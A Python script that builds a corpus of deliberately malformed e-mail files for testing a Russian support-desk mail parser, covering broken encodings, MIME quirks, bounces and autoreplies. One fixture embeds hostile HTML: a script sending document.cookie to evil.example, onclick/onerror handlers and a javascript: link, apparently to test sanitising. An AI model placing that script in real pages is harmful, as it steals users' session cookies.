"""Write the corpus of ugly e-mail messages the parser is tested against.

Every message imitates something a real client, mailer or server sends to a
Russian support mailbox. The bytes are built by hand, not by the standard
library's generator, so they stay as broken as the originals. Output is
deterministic; run ``python tests/channels/email/build_corpus.py`` after editing
and commit the .eml files together with this script (a test checks they match).
"""

from __future__ import annotations

import base64
import hashlib
import quopri
import sys
from collections.abc import Callable
from pathlib import Path

CORPUS_DIR = Path(__file__).parent / "corpus"
OUR_DOMAIN = "plastek.ru"
OUR_RECEIVED_ID = "sd.000042.received.0123456789abcdef@plastek.ru"
OUR_ANSWERED_ID = "sd.000043.answered.fedcba9876543210@plastek.ru"


def crlf(text: str, encoding: str = "latin-1") -> bytes:
    """Encode `text` with CRLF line endings, as IMAP servers hand messages out.

    The default latin-1 passes through text made by `raw8` byte for byte.
    """
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode(encoding)


def raw8(text: str, charset: str = "utf-8") -> str:
    """Return `text` encoded in `charset` as a latin-1 string, to embed raw 8-bit bytes."""
    return text.encode(charset).decode("latin-1")


def encoded_word(text: str, charset: str, encoding: str = "B") -> str:
    """Return `text` as one RFC 2047 encoded word."""
    data = text.encode(charset)
    if encoding == "B":
        return f"=?{charset}?B?{base64.b64encode(data).decode()}?="
    quoted = quopri.encodestring(data, header=True).decode().replace("=\n", "")
    return f"=?{charset}?Q?{quoted}?="


def b64_lines(data: bytes) -> str:
    """Return base64 of `data` wrapped at 76 characters, as MIME requires."""
    encoded = base64.b64encode(data).decode()
    return "\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76))


def qp(text: str, charset: str) -> str:
    return quopri.encodestring(text.replace("\n", "\r\n").encode(charset)).decode()


def headers(**fields: str) -> str:
    """Return header lines; underscores in names become hyphens."""
    return "".join(f"{name.replace('_', '-')}: {value}\n" for name, value in fields.items())


COMMON = (
    "Received: from mx.client-shop.ru (mx.client-shop.ru [203.0.113.7])\n"
    "\tby mx.plastek.ru (Postfix) with ESMTPS id 4Dq1x2Yz3\n"
    "\tfor <support@plastek.ru>; Mon, 3 Nov 2025 10:20:01 +0300 (MSK)\n"
    "To: support@plastek.ru\n"
    "Date: Mon, 3 Nov 2025 10:20:00 +0300\n"
    "MIME-Version: 1.0\n"
)


def koi8r_body_and_subject() -> bytes:
    head = COMMON + headers(
        From=f'"{encoded_word("Иванов Сергей", "koi8-r")}" <S.Ivanov@Shop-Ural.RU>',
        Subject=encoded_word("Не печатает чек на кассе 2", "koi8-r"),
        Message_ID="<20251103102000.1234@shop-ural.ru>",
        Content_Type="text/plain; charset=koi8-r",
        Content_Transfer_Encoding="8bit",
        X_Mailer="The Bat! (v3.99.3) Professional",
    )
    body = (
        "Здравствуйте!\n\nНа кассе 2 в магазине на Ленина, 5 не печатается чек.\n"
        "Принтер пищит и мигает красным.\n\n--\nИванов Сергей\nтел. 8 (343) 555-12-34\n"
    )
    return crlf(head + "\n") + crlf(body, "koi8-r")


def cp1251_body_without_charset() -> bytes:
    head = COMMON + headers(
        From="buh@ooo-romashka.ru",
        Subject=encoded_word("Счёт за ноябрь", "utf-8"),
        Message_ID="<1C.20251103.0001@ooo-romashka.ru>",
        Content_Type="text/plain",
        Content_Transfer_Encoding="8bit",
        X_Mailer="1C:Enterprise 8.3",
    )
    body = "Добрый день.\nПрошу выставить счёт за обслуживание в ноябре.\nБухгалтерия ООО Ромашка\n"
    return crlf(head + "\n") + crlf(body, "cp1251")


def raw_8bit_cp1251_subject() -> bytes:
    return (
        crlf(COMMON)
        + b"From: \xcf\xe5\xf2\xf0\xee\xe2 \xc8\xe2\xe0\xed <petrov@kassa-plus.ru>\r\n"
        + "Subject: Не работает терминал оплаты в зале\r\n".encode("cp1251")
        + crlf(
            headers(
                Message_ID="<raw8bit.1@kassa-plus.ru>",
                Content_Type="text/plain; charset=windows-1251",
                Content_Transfer_Encoding="8bit",
            )
            + "\n"
        )
        + crlf("Терминал не принимает карты с утра.\n", "cp1251")
    )


def _mixed(boundary: str, head: str, parts: list[str], *, close: bool = True) -> bytes:
    text = head + f'Content-Type: multipart/mixed; boundary="{boundary}"\n\n'
    text += "This is a multi-part message in MIME format.\n\n"
    for part in parts:
        text += f"--{boundary}\n{part}\n"
    if close:
        text += f"--{boundary}--\n"
    return crlf(text)


PDF_BYTES = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
JPEG_BYTES = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00fake-jpeg\xff\xd9"
PNG_BYTES = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5b0000000049454e44ae426082"
)


def rfc2231_cyrillic_filename() -> bytes:
    head = COMMON + headers(
        From=raw8("Ольга <olga@client-shop.ru>"),
        Subject=encoded_word("Акт сверки", "utf-8"),
        Message_ID="<rfc2231.1@client-shop.ru>",
    )
    akt = "%D0%90%D0%BA%D1%82%20%D1%81%D0%B2%D0%B5%D1%80%D0%BA%D0%B8.pdf"
    return _mixed(
        "----=_rfc2231",
        head,
        [
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
            + raw8("Акт сверки во вложении.\n"),
            "Content-Type: application/pdf\n"
            f"Content-Disposition: attachment; filename*=utf-8''{akt}\n"
            f"Content-Transfer-Encoding: base64\n\n{b64_lines(PDF_BYTES)}\n",
            "Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\n"
            "Content-Disposition: attachment;\n"
            " filename*0*=utf-8''%D0%A1%D1%87%D1%91%D1%82%20%D0%BD%D0%B0%20;\n"
            " filename*1*=%D0%BE%D0%BF%D0%BB%D0%B0%D1%82%D1%83.xlsx\n"
            f"Content-Transfer-Encoding: base64\n\n{b64_lines(b'PK fake xlsx')}\n",
        ],
    )


def rfc2047_filename_outlook() -> bytes:
    name = encoded_word("Фото кассы.jpg", "windows-1251")
    head = COMMON + headers(
        From=f"{encoded_word('Смирнова Анна', 'windows-1251')} <a.smirnova@client-shop.ru>",
        Subject=encoded_word("Фото ошибки", "windows-1251"),
        Message_ID="<000001dc4c8f$1a2b3c4d$4e5f6a7b@client-shop.ru>",
        X_Mailer="Microsoft Outlook 16.0",
    )
    return _mixed(
        "----=_NextPart_000_0001_01DC4C8F.1A2B3C4D",
        head,
        [
            "Content-Type: text/plain; charset=windows-1251\nContent-Transfer-Encoding: quoted-printable\n\n"
            + qp("Фото ошибки на экране кассы во вложении.\n", "windows-1251"),
            f'Content-Type: image/jpeg; name="{name}"\n'
            f'Content-Disposition: attachment; filename="{name}"\n'
            f"Content-Transfer-Encoding: base64\n\n{b64_lines(JPEG_BYTES)}\n",
        ],
    )


def missing_end_boundary() -> bytes:
    head = COMMON + headers(
        From="sklad@client-shop.ru",
        Subject="Nakladnaya",
        Message_ID="<noend.1@client-shop.ru>",
    )
    return _mixed(
        "b1",
        head,
        [
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
            + b64_lines("Накладная во вложении, письмо обрезано.\n".encode()),
            "Content-Type: application/pdf; name=nakl.pdf\n"
            "Content-Disposition: attachment; filename=nakl.pdf\n"
            f"Content-Transfer-Encoding: base64\n\n{b64_lines(PDF_BYTES)}",
        ],
        close=False,
    )


def no_subject() -> bytes:
    head = COMMON + headers(
        From=raw8("Пётр <petr@client-shop.ru>"),
        Message_ID="<nosubject.1@client-shop.ru>",
        Content_Type="text/plain; charset=utf-8",
        Content_Transfer_Encoding="8bit",
    )
    return crlf(head + "\n") + crlf("Касса опять зависла.\n", "utf-8")


def no_from() -> bytes:
    head = COMMON + headers(
        Subject=encoded_word("Сообщение с терминала", "utf-8"),
        Message_ID="<nofrom.1@terminal.local>",
        Content_Type="text/plain; charset=utf-8",
        Content_Transfer_Encoding="8bit",
    )
    return crlf(head + "\n") + crlf("Ошибка ККТ: 0x1A\n", "utf-8")


def empty_body() -> bytes:
    head = COMMON + headers(
        From="manager@client-shop.ru",
        Subject=encoded_word("Позвоните мне", "utf-8"),
        Message_ID="<empty.1@client-shop.ru>",
        Content_Type="text/plain; charset=utf-8",
    )
    return crlf(head + "\n")


def html_only_script_onclick() -> bytes:
    head = COMMON + headers(
        From="Web form <noreply@client-shop.ru>",
        Reply_To=raw8("Клиент <client@mail.ru>"),
        Subject=encoded_word("Заявка с сайта", "utf-8"),
        Message_ID="<form.1@client-shop.ru>",
        Content_Type="text/html; charset=utf-8",
        Content_Transfer_Encoding="8bit",
    )
    html = (
        "<html><head><title>Заявка</title><style>p{color:red}</style>"
        "<script>document.location='https://evil.example/'+document.cookie</script></head>"
        '<body><p onclick="steal()">Не работает <b>весы</b> в отделе овощи.</p>'
        '<a href="javascript:alert(1)">подробнее</a>'
        '<img src="https://tracker.example/pixel.gif" onerror="steal()"></body></html>\n'
    )
    return crlf(head + "\n") + crlf(html, "utf-8")


def multipart_alternative() -> bytes:
    head = COMMON + headers(
        From=raw8("Мария <maria@client-shop.ru>"),
        Subject=encoded_word("Не приходят чеки на почту", "utf-8", "Q"),
        Message_ID="<alt.1@client-shop.ru>",
        Content_Type='multipart/alternative; boundary="alt-b"',
    )
    plain = "Покупателям не приходят электронные чеки.\n"
    html = "<div dir='ltr'>Покупателям <b>не приходят</b> электронные чеки.</div>\n"
    text = (
        head
        + "\n--alt-b\nContent-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: quoted-printable\n\n"
        + qp(plain, "utf-8")
        + "\n--alt-b\nContent-Type: text/html; charset=UTF-8\nContent-Transfer-Encoding: quoted-printable\n\n"
        + qp(html, "utf-8")
        + "\n--alt-b--\n"
    )
    return crlf(text)


def inline_images_content_id() -> bytes:
    head = COMMON + headers(
        From="Outlook User <user@client-shop.ru>",
        Subject=encoded_word("Скриншот ошибки", "utf-8"),
        Message_ID="<related.1@client-shop.ru>",
        Content_Type='multipart/related; boundary="rel"; type="multipart/alternative"',
    )
    text = (
        head
        + '\n--rel\nContent-Type: multipart/alternative; boundary="alt"\n\n'
        + "--alt\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        + b64_lines("Ошибка на экране:\n[cid:image001.png@01DC4C8F.1A2B3C40]\n".encode())
        + "\n--alt\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        + b64_lines(
            '<p>Ошибка на экране:</p><img src="cid:image001.png@01DC4C8F.1A2B3C40">'.encode()
        )
        + '\n--alt--\n\n--rel\nContent-Type: image/png; name="image001.png"\n'
        + 'Content-ID: <image001.png@01DC4C8F.1A2B3C40>\nContent-Disposition: inline; filename="image001.png"\n'
        + f"Content-Transfer-Encoding: base64\n\n{b64_lines(PNG_BYTES)}\n"
        + "--rel\nContent-Type: image/png\nContent-ID: <logo@client-shop.ru>\n"
        + f"Content-Transfer-Encoding: base64\n\n{b64_lines(PNG_BYTES)}\n--rel--\n"
    )
    return crlf(text)


def forwarded_message_rfc822() -> bytes:
    head = COMMON + headers(
        From=raw8("Директор <director@client-shop.ru>"),
        Subject="Fwd: " + encoded_word("Жалоба покупателя", "koi8-r"),
        Message_ID="<fwd.1@client-shop.ru>",
    )
    inner = (
        headers(
            From="pokupatel@mail.ru",
            To="director@client-shop.ru",
            Subject=encoded_word("Жалоба покупателя", "koi8-r"),
            Date="Sun, 2 Nov 2025 19:02:11 +0300",
            Message_ID="<inner.1@mail.ru>",
            Content_Type="text/plain; charset=koi8-r",
            Content_Transfer_Encoding="base64",
        )
        + "\n"
        + b64_lines("Мне пробили товар дважды.\n".encode("koi8-r"))
        + "\n"
    )
    return _mixed(
        "fwd-b",
        head,
        [
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
            + b64_lines("Разберитесь, пожалуйста, с жалобой ниже.\n".encode()),
            "Content-Type: message/rfc822\nContent-Disposition: attachment\n\n" + inner,
        ],
    )


def _reply(
    message_id: str,
    sender: str,
    subject: str,
    body: str,
    *,
    charset: str = "utf-8",
    extra: str = "",
    content_type: str = "text/plain",
) -> bytes:
    head = (
        COMMON
        + headers(
            From=sender,
            Subject=subject,
            Message_ID=f"<{message_id}>",
            In_Reply_To=f"<{OUR_RECEIVED_ID}>",
            References=f"<{OUR_RECEIVED_ID}>",
            Content_Type=f"{content_type}; charset={charset}",
            Content_Transfer_Encoding="base64",
        )
        + extra
    )
    return crlf(head + "\n" + b64_lines(body.replace("\n", "\r\n").encode(charset)) + "\n")


def outlook_reply_ru() -> bytes:
    body = (
        "Добрый день!\n\nКасса заработала, спасибо.\n\nС уважением,\nПетрова Анна\n"
        "тел. +7 (343) 555-00-11\n\n"
        "От: Служба поддержки Пластек [mailto:support@plastek.ru]\n"
        "Отправлено: 3 ноября 2025 г. 10:15\n"
        "Кому: Петрова Анна <a.petrova@client-shop.ru>\n"
        "Тема: [SD-000077] Касса не печатает чеки\n\n"
        "Здравствуйте! Ваша заявка SD-000077 принята.\n"
    )
    return _reply(
        "000501dc4c90$aa$bb@client-shop.ru",
        f"{encoded_word('Петрова Анна', 'windows-1251')} <A.Petrova@client-shop.ru>",
        "RE: " + encoded_word("[SD-000077] Касса не печатает чеки", "windows-1251"),
        body,
        charset="windows-1251",
        extra="X-Mailer: Microsoft Outlook 16.0\nThread-Index: AQHcTJCqu7vMzN3u\n",
    )


def gmail_ru_reply() -> bytes:
    body = (
        "Проблема повторилась сегодня утром.\n\n"
        "пн, 3 нояб. 2025 г. в 10:15, Служба поддержки Пластек <\n"
        "support@plastek.ru>:\n\n"
        "> Здравствуйте! Ваша заявка [SD-000042] принята.\n>\n"
        "> Срок реакции: 2 часа.\n"
    )
    return _reply(
        "CAF+gmail-1234567890@mail.gmail.com",
        raw8("Иван Петров <ivan.petrov.shop@gmail.com>"),
        "Re: " + encoded_word("[SD-000042] Касса не печатает чеки", "utf-8"),
        body,
    )


def yandex_reply() -> bytes:
    body = (
        "Спасибо, всё работает.\n\n-- \nС уважением, Николай\n8 912 000-00-00\n\n"
        '03.11.2025, 10:15, "Служба поддержки Пластек" <support@plastek.ru>:\n'
        "> Здравствуйте! Ваша заявка [SD-000042] решена.\n"
    )
    return _reply(
        "123451762154000@mail.yandex.ru",
        f"{encoded_word('Николай', 'utf-8')} <nikolay@yandex.ru>",
        "Re: " + encoded_word("[SD-000042] Касса не печатает чеки", "utf-8"),
        body,
    )


def mailru_reply() -> bytes:
    body = (
        "Добрый день, касса снова не печатает.\n\n\n"
        "Понедельник, 3 ноября 2025, 10:15 +03:00 от Служба поддержки Пластек <support@plastek.ru>:\n"
        ">\n>Здравствуйте! Ваша заявка [SD-000042] решена.\n>\n>\n"
    )
    return _reply(
        "1762154000.123456789@f512.i.mail.ru",
        f"{encoded_word('Ольга Сидорова', 'utf-8')} <olga.sidorova@mail.ru>",
        "Re[2]: " + encoded_word("[SD-000042] Касса не печатает чеки", "utf-8"),
        body,
    )


def thunderbird_reply() -> bytes:
    body = (
        "Обновление не помогло, ошибка та же.\n\n"
        "03.11.2025 10:15, Служба поддержки Пластек пишет:\n"
        "> Здравствуйте! Установите, пожалуйста, обновление драйвера.\n"
    )
    return _reply(
        "d2a1b0c9-1111-2222-3333-444455556666@client-shop.ru",
        "Alexey <alexey@client-shop.ru>",
        "Re: " + encoded_word("[SD-000042] Касса не печатает чеки", "utf-8"),
        body,
        extra="User-Agent: Mozilla Thunderbird\n",
        content_type="text/plain; format=flowed",
    )


def apple_mail_reply() -> bytes:
    body = (
        "The scanner works again, thanks.\n\nSent from my iPhone\n\n"
        "On 3 Nov 2025, at 10:15, Plas-Tek Support <support@plastek.ru> wrote:\n\n"
        "> Hello! Your request [SD-000042] has been resolved.\n"
    )
    return _reply(
        "A1B2C3D4-0000-1111-2222-333344445555@client-shop.ru",
        "John Smith <john.smith@icloud.com>",
        "Re: [SD-000042] Scanner does not work",
        body,
        extra="X-Mailer: iPhone Mail (22A3354)\n",
    )


def out_of_office_auto_submitted() -> bytes:
    head = COMMON + headers(
        From=f"{encoded_word('Петрова Анна', 'utf-8')} <a.petrova@client-shop.ru>",
        Subject=encoded_word("Автоматический ответ: [SD-000042] Касса не печатает чеки", "utf-8"),
        Message_ID="<ooo.1@client-shop.ru>",
        In_Reply_To=f"<{OUR_RECEIVED_ID}>",
        Auto_Submitted="auto-replied",
        X_Auto_Response_Suppress="All",
        Content_Type="text/plain; charset=utf-8",
        Content_Transfer_Encoding="base64",
    )
    return crlf(
        head
        + "\n"
        + b64_lines("Я в отпуске до 10 ноября. По срочным вопросам: 555-00-22.\n".encode())
    )


def precedence_bulk() -> bytes:
    head = COMMON + headers(
        From=raw8("Новости 1С <news@1c-partner.ru>"),
        Subject=encoded_word("Новые возможности 1С:Розница 3.0", "utf-8"),
        Message_ID="<news.2025.11@1c-partner.ru>",
        Precedence="bulk",
        List_Unsubscribe="<https://1c-partner.ru/unsubscribe?id=123>",
        Content_Type="text/plain; charset=utf-8",
        Content_Transfer_Encoding="8bit",
    )
    return crlf(head + "\n") + crlf("Рассылка для партнёров.\n", "utf-8")


def x_autoreply() -> bytes:
    head = COMMON + headers(
        From="kassir@mail.ru",
        Subject="Re: " + encoded_word("[SD-000042] Касса не печатает чеки", "utf-8"),
        Message_ID="<autoreply.1@mail.ru>",
        X_Autoreply="yes",
        Content_Type="text/plain; charset=utf-8",
        Content_Transfer_Encoding="base64",
    )
    return crlf(head + "\n" + b64_lines("Ваше письмо получено.\n".encode()))


def autoreply_subject_only() -> bytes:
    head = COMMON + headers(
        From="zav.sklad@client-shop.ru",
        Subject=encoded_word("Автоответ: Я в отпуске до 10.11", "utf-8"),
        Message_ID="<oosubj.1@client-shop.ru>",
        Content_Type="text/plain; charset=utf-8",
        Content_Transfer_Encoding="base64",
    )
    return crlf(head + "\n" + b64_lines("Буду 10 ноября.\n".encode()))


def dsn_bounce_of_our_notification() -> bytes:
    head = headers(
        Return_Path="<>",
        Received="from localhost by mx.plastek.ru (Postfix); Mon, 3 Nov 2025 10:16:02 +0300",
        From="MAILER-DAEMON@mx.plastek.ru (Mail Delivery System)",
        To="support@plastek.ru",
        Subject="Undelivered Mail Returned to Sender",
        Date="Mon, 3 Nov 2025 10:16:02 +0300 (MSK)",
        Message_ID="<20251103071602.0ABC@mx.plastek.ru>",
        Auto_Submitted="auto-replied",
        MIME_Version="1.0",
        Content_Type='multipart/report; report-type=delivery-status; boundary="dsn-b"',
    )
    text = (
        head
        + "\nThis is a MIME-encapsulated message.\n\n--dsn-b\n"
        + "Content-Description: Notification\nContent-Type: text/plain; charset=us-ascii\n\n"
        + "This is the mail system at host mx.plastek.ru.\n\nI'm sorry to have to inform you that "
        + "your message could not\nbe delivered to one or more recipients.\n\n"
        + "<nobody@client-shop.ru>: host mx.client-shop.ru[203.0.113.7] said: 550 5.1.1\n"
        + "    <nobody@client-shop.ru>: Recipient address rejected: User unknown\n\n"
        + "--dsn-b\nContent-Description: Delivery report\nContent-Type: message/delivery-status\n\n"
        + "Reporting-MTA: dns; mx.plastek.ru\nX-Postfix-Queue-ID: 0ABC\n"
        + "Arrival-Date: Mon,  3 Nov 2025 10:16:01 +0300 (MSK)\n\n"
        + "Final-Recipient: rfc822; nobody@client-shop.ru\nOriginal-Recipient: rfc822;nobody@client-shop.ru\n"
        + "Action: failed\nStatus: 5.1.1\nRemote-MTA: dns; mx.client-shop.ru\n"
        + "Diagnostic-Code: smtp; 550 5.1.1 <nobody@client-shop.ru>: Recipient address\n"
        + "    rejected: User unknown\n\n"
        + "--dsn-b\nContent-Description: Undelivered Message Headers\nContent-Type: text/rfc822-headers\n\n"
        + "Return-Path: <support@plastek.ru>\nFrom: support@plastek.ru\nTo: nobody@client-shop.ru\n"
        + f"Subject: =?utf-8?B?{base64.b64encode('[SD-000042] Заявка принята'.encode()).decode()}?=\n"
        + f"Message-ID: <{OUR_RECEIVED_ID}>\nAuto-Submitted: auto-generated\n\n--dsn-b--\n"
    )
    return crlf(text)


def mailer_daemon_plain_bounce() -> bytes:
    head = headers(
        Return_Path="<>",
        From="Mail Delivery System <Mailer-Daemon@mx.hosting.ru>",
        To="support@plastek.ru",
        Subject="Mail delivery failed: returning message to sender",
        Date="Mon, 3 Nov 2025 11:00:00 +0300",
        Message_ID="<E1vFx-0001@mx.hosting.ru>",
        X_Failed_Recipients="ivan@old-shop.ru",
        MIME_Version="1.0",
        Content_Type="text/plain; charset=us-ascii",
    )
    body = (
        "This message was created automatically by mail delivery software.\n\n"
        "A message that you sent could not be delivered to one or more of its\n"
        "recipients. This is a permanent error. The following address(es) failed:\n\n"
        "  ivan@old-shop.ru\n    host mx.old-shop.ru [198.51.100.5]\n"
        "    SMTP error from remote mail server after RCPT TO:<ivan@old-shop.ru>:\n"
        "    550 5.1.1 Mailbox does not exist\n\n"
        "------ This is a copy of the message, including all the headers. ------\n\n"
        "Return-path: <support@plastek.ru>\nFrom: support@plastek.ru\nTo: ivan@old-shop.ru\n"
        f"Subject: [SD-000043] Answer\nMessage-ID: <{OUR_ANSWERED_ID}>\n\nHello\n"
    )
    return crlf(head + "\n" + body)


def reply_with_ticket_tag_and_in_reply_to() -> bytes:
    head = COMMON + headers(
        From="Ivan Petrov <ivan@client-shop.ru>",
        Subject="Re: " + encoded_word("[SD-000042] Касса не печатает чеки", "utf-8"),
        Message_ID="<reply.42@client-shop.ru>",
        In_Reply_To=f"<{OUR_RECEIVED_ID}> (Plas-Tek support's message of Mon, 3 Nov 2025)",
        References=f"<first.42@client-shop.ru>\n <{OUR_RECEIVED_ID}>",
        Content_Type="text/plain; charset=utf-8",
        Content_Transfer_Encoding="base64",
    )
    return crlf(head + "\n" + b64_lines("Чек всё ещё не печатается.\n".encode()))


def garbage_bytes() -> bytes:
    # A PNG piped into the mailbox by a broken script: no header, mostly binary.
    blocks = [hashlib.sha256(str(i).encode()).digest() for i in range(64)]
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"".join(blocks)


def zero_bytes() -> bytes:
    return b""


def base64_broken_padding() -> bytes:
    text = base64.b64encode("Прошу вернуть деньги за двойное списание.\n".encode()).decode()
    broken = text.rstrip("=")[:-1]  # padding lost and the last character cut off
    head = COMMON + headers(
        From="client@client-shop.ru",
        Subject=encoded_word("Двойное списание", "utf-8").replace("==?=", "?="),
        Message_ID="<b64.1@client-shop.ru>",
    )
    return _mixed(
        "b64-b",
        head,
        [
            f"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n{broken}\n",
            "Content-Type: application/octet-stream; name=check.bin\n"
            "Content-Transfer-Encoding: base64\n\nAAEC!!AwQF\nBgcICQ\n",
        ],
    )


def huge_header_line() -> bytes:
    head = COMMON + headers(
        From="robot@client-shop.ru",
        Subject="Report " + "x" * 20000,
        X_Tracking="A" * 100_000,
        Message_ID="<huge.1@client-shop.ru>",
        Content_Type="text/plain; charset=utf-8",
    )
    return crlf(head + "\nSee subject.\n")


def duplicate_message_id() -> bytes:
    head = COMMON + headers(
        From="dup@client-shop.ru",
        Subject="Duplicate id",
        Message_ID="<dup.first@client-shop.ru>",
        Content_Type="text/plain; charset=utf-8",
    )
    head += "Message-ID: <dup.second@client-shop.ru>\n"
    return crlf(head + "\nTwo ids.\n")


def declared_latin1_is_cp1251() -> bytes:
    head = COMMON + headers(
        From="kassa@old-1c.ru",
        Subject=encoded_word("Выгрузка чеков", "utf-8"),
        Message_ID="<latin1.1@old-1c.ru>",
        Content_Type="text/plain; charset=iso-8859-1",
        Content_Transfer_Encoding="8bit",
    )
    body = "Выгрузка чеков за смену не прошла, касса пишет ошибку обмена.\n"
    return crlf(head + "\n") + crlf(body, "cp1251")


def declared_cp1251_is_utf8() -> bytes:
    head = COMMON + headers(
        From="form@client-shop.ru",
        Subject=encoded_word("Обратная связь", "utf-8"),
        Message_ID="<php.1@client-shop.ru>",
        Content_Type="text/plain; charset=windows-1251",
        Content_Transfer_Encoding="8bit",
        X_Mailer="PHP/7.4.33",
    )
    return crlf(head + "\n") + crlf("Сломался сканер штрихкодов на второй кассе.\n", "utf-8")


def missing_charset_koi8() -> bytes:
    head = COMMON + headers(
        From="admin@unix-shop.ru",
        Subject="cron",
        Message_ID="<koi8.nocharset@unix-shop.ru>",
        Content_Type="text/plain",
        Content_Transfer_Encoding="8bit",
    )
    body = "Ночная выгрузка остатков завершилась с ошибкой, повторите завтра.\n"
    return crlf(head + "\n") + crlf(body, "koi8-r")


def lf_only_pipe() -> bytes:
    head = headers(
        From="Oleg <oleg@client-shop.ru>",
        To="support@plastek.ru",
        Subject=encoded_word("Письмо через pipe", "utf-8"),
        Date="Mon, 03 Nov 2025 07:30:00 -0000",
        Message_ID="<lf.1@client-shop.ru>",
        Content_Type="text/plain; charset=utf-8",
        Content_Transfer_Encoding="quoted-printable",
    )
    return (
        head + "\n" + qp("Строки разделены только LF.\n", "utf-8").replace("\r\n", "\n")
    ).encode()


def raw_8bit_filename() -> bytes:
    head = COMMON + headers(
        From="1c@client-shop.ru",
        Subject="Otchet",
        Message_ID="<raw8name.1@client-shop.ru>",
    )
    message = _mixed(
        "r8",
        head,
        [
            "Content-Type: text/plain; charset=us-ascii\n\nSee attachment.\n",
            'Content-Type: application/vnd.ms-excel; name="@@NAME@@"\n'
            'Content-Disposition: attachment; filename="@@NAME@@"\n'
            f"Content-Transfer-Encoding: base64\n\n{b64_lines(b'fake xls')}\n",
        ],
    )
    return message.replace(b"@@NAME@@", "Отчёт по продажам.xls".encode("cp1251"))


def outlook_html_only_reply_ru() -> bytes:
    html = (
        "<html><body><div><p>Коллеги, ошибка ушла после перезагрузки.</p>"
        "<p>С уважением,<br>Ковалёв Дмитрий</p></div>"
        '<div style="border-top:solid #E1E1E1 1.0pt">'
        "<p><b>От:</b> Служба поддержки Пластек &lt;support@plastek.ru&gt;<br>"
        "<b>Отправлено:</b> 3 ноября 2025 г. 10:15<br>"
        "<b>Кому:</b> Ковалёв Дмитрий &lt;d.kovalev@client-shop.ru&gt;<br>"
        "<b>Тема:</b> [SD-000042] Касса не печатает чеки</p></div>"
        "<p>Здравствуйте! Перезагрузите кассу.</p></body></html>"
    )
    return _reply(
        "outlook-html.1@client-shop.ru",
        "d.kovalev@client-shop.ru",
        "RE: " + encoded_word("[SD-000042] Касса не печатает чеки", "utf-8"),
        html,
        content_type="text/html",
    )


MESSAGES: dict[str, Callable[[], bytes]] = {
    "01_koi8r_body_and_subject.eml": koi8r_body_and_subject,
    "02_cp1251_body_without_charset.eml": cp1251_body_without_charset,
    "03_raw_8bit_cp1251_subject.eml": raw_8bit_cp1251_subject,
    "04_rfc2231_cyrillic_filename.eml": rfc2231_cyrillic_filename,
    "05_rfc2047_filename_outlook.eml": rfc2047_filename_outlook,
    "06_missing_end_boundary.eml": missing_end_boundary,
    "07_no_subject.eml": no_subject,
    "08_no_from.eml": no_from,
    "09_empty_body.eml": empty_body,
    "10_html_only_script_onclick.eml": html_only_script_onclick,
    "11_multipart_alternative.eml": multipart_alternative,
    "12_inline_images_content_id.eml": inline_images_content_id,
    "13_forwarded_message_rfc822.eml": forwarded_message_rfc822,
    "14_outlook_reply_ru.eml": outlook_reply_ru,
    "15_gmail_ru_reply.eml": gmail_ru_reply,
    "16_yandex_reply.eml": yandex_reply,
    "17_mailru_reply.eml": mailru_reply,
    "18_thunderbird_reply.eml": thunderbird_reply,
    "19_apple_mail_reply.eml": apple_mail_reply,
    "20_out_of_office_auto_submitted.eml": out_of_office_auto_submitted,
    "21_precedence_bulk.eml": precedence_bulk,
    "22_x_autoreply.eml": x_autoreply,
    "23_autoreply_subject_only.eml": autoreply_subject_only,
    "24_dsn_bounce_of_our_notification.eml": dsn_bounce_of_our_notification,
    "25_mailer_daemon_plain_bounce.eml": mailer_daemon_plain_bounce,
    "26_reply_with_ticket_tag_and_in_reply_to.eml": reply_with_ticket_tag_and_in_reply_to,
    "27_garbage_bytes.eml": garbage_bytes,
    "28_zero_bytes.eml": zero_bytes,
    "29_base64_broken_padding.eml": base64_broken_padding,
    "30_huge_header_line.eml": huge_header_line,
    "31_duplicate_message_id.eml": duplicate_message_id,
    "32_declared_latin1_is_cp1251.eml": declared_latin1_is_cp1251,
    "33_declared_cp1251_is_utf8.eml": declared_cp1251_is_utf8,
    "34_missing_charset_koi8.eml": missing_charset_koi8,
    "35_lf_only_pipe.eml": lf_only_pipe,
    "36_raw_8bit_filename.eml": raw_8bit_filename,
    "37_outlook_html_only_reply_ru.eml": outlook_html_only_reply_ru,
}


def build(directory: Path = CORPUS_DIR) -> dict[str, bytes]:
    """Write every corpus message into `directory` and return them by file name."""
    directory.mkdir(parents=True, exist_ok=True)
    built = {name: make() for name, make in MESSAGES.items()}
    for name, data in built.items():
        (directory / name).write_bytes(data)
    return built


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS_DIR
    for name, data in build(target).items():
        print(f"{len(data):>8}  {name}")
